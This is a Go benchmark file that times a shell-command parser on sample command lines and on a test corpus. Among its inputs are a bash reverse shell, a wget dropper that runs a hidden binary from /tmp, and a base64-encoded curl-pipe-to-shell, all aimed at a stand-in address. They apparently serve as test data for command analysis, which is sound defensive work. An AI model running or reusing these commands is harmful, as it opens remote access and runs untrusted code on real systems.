package command

import (
	"path/filepath"
	"strings"
	"testing"
)

// BenchmarkRead reads typical lines.
func BenchmarkRead(b *testing.B) {
	for name, args := range map[string][]string{
		"entrypoint":    {"/bin/sh", "-c", "exec gunicorn --bind :$PORT --workers 1 --threads 8 main:app"},
		"health":        {"sh", "-c", "curl -fsS http://127.0.0.1:8080/healthz || exit 1"},
		"reverse_shell": {"bash", "-c", "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"},
		"dropper":       {"sh", "-c", "cd /tmp; wget http://203.0.113.10/x -O .x; chmod 777 .x; ./.x; rm .x"},
		"encoded":       {"sh", "-c", "echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjEwL2EgfCBzaA== | base64 -d | sh"},
	} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Read(args, false)
			}
		})
	}
}

// BenchmarkReadCorpus reads the whole corpus; the figure that matters is ns/line.
func BenchmarkReadCorpus(b *testing.B) {
	lines, err := loadCorpus(filepath.Join("testdata", "corpus.ndjson"))
	if err != nil {
		b.Fatal(err)
	}
	for b.Loop() {
		for _, l := range lines {
			Read(l.Args, false)
		}
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/float64(len(lines)), "ns/line")
}

// BenchmarkReadHostile reads texts made to be slow, at the bound of their size.
func BenchmarkReadHostile(b *testing.B) {
	for name, text := range hostileTexts() {
		b.Run(strings.ReplaceAll(name, " ", "_"), func(b *testing.B) {
			for b.Loop() {
				Read([]string{"sh", "-c", text}, false)
			}
		})
	}
}
